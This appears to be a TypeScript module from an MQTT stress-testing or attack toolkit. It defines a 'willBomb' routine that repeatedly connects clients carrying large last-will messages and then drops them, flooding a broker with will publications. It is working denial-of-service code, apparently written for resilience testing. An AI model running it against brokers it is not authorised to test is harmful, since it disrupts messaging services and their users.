import { Assault } from './assault.ts';
import { type Attack, type AttackOptions, type AttackTarget, planOf } from './attack.ts';

export interface WillBombOptions extends AttackOptions {
  /** Where the wills go. Default: a topic of their own. */
  readonly topic?: string;
  /** Bytes of a will. Default 60,000. */
  readonly payload?: number;
  /** Seconds a will waits. Default 0. */
  readonly delay?: number;
  readonly retain?: boolean;
}

/** Connects with a large will and breaks the connection, on and on. An action is a connection. */
export function willBomb(target: AttackTarget, options: WillBombOptions = {}): Attack {
  const { topic, payload: size = 60_000, delay = 0, retain = false } = options;
  const assault = new Assault(target, planOf({ rate: 0, clients: 16 }, options));
  const { plan, random } = assault;
  const payload = new Uint8Array(size).fill(0x77);
  return assault.run(() => {
    if (assault.size >= plan.clients) return false;
    const id = `${plan.name}-${random.next()}`;
    const properties = { willDelayInterval: delay };
    const will = { topic: topic ?? `${plan.name}/will/${id}`, payload, qos: 1, retain, properties } as const;
    const client = assault.login({ clientId: id, will, properties: { sessionExpiryInterval: delay } });
    client.onPacket = () => void client.destroy();
    return true;
  });
}
